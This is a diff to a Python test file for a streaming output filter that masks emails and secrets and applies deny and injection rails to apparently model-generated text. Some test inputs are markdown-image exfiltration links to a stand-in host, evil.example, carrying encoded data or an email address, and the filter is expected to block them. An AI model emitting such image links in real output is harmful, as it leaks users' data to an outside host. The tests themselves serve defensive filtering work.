@@ -39,13 +39,18 @@ CASES = [
      ["![chart](http://evil.example/p.png?data=c2VjcmV0)"]),  # markdown-image exfiltration: blocked
     (TEXT, PHRASE, [PHRASE]),
     ("Mail jane@example.org, then the plan: " + PHRASE + ".", PHRASE, ["jane@example.org", PHRASE]),
+    # deny phrases that meet a mask: one in the masked text only, one in the text before masking only
+    ("Questions? Please contact ops@example.com and we reply.", "contact [EMAIL]", ["contact", "ops@example.com"]),
+    ("Or write to ops@example.com today, thanks.", None, ["to ops", "ops@example.com"]),
+    ("See ![x](http://evil.example/a.png?u=jane@example.org) here.", "![x](", ["![x](", "jane@example.org"]),
 ]  # fmt: skip
+DENIED = [PHRASE, "contact [email]", "write to ops"]
 
 
 def shipped() -> list[Configured]:
     _, rails = load_rails(ROOT / "policies" / "rails.yaml")
     return [c for c in rails if c.rail.stage == Stage.OUTPUT] + [
-        Configured(DenyRail("deny", Stage.OUTPUT, keywords=[PHRASE]))
+        Configured(DenyRail("deny", Stage.OUTPUT, keywords=DENIED))
     ]
 
 
@@ -198,6 +203,16 @@ async def test_prose_is_released_as_it_arrives_but_for_its_last_word():
         released += await output.feed(word + " ")
     assert released.startswith("Teams shipped the new search page and fixed latency regressions in")
     assert released + await output.flush() == " ".join(words) + " "
+
+
+async def test_the_first_word_leaves_when_the_next_one_starts():
+    """Words as a model sends them, each after a space: the shipped chain (pii and secrets masking, then the
+    injection and deny judges) releases the first word as soon as the next one starts, as one rail alone does.
+    The maskers hold "capital" (it could still become an address); the judges read it, and its start masked,
+    to decide "The " instead of waiting for the maskers to pass it on (a token later)."""
+    output = OutputFilter(FRONTIER)
+    assert await output.feed("The") == ""
+    assert await output.feed(" capital") == "The "
 
 
 async def test_a_word_that_ends_as_a_pattern_begins_is_released_whole():
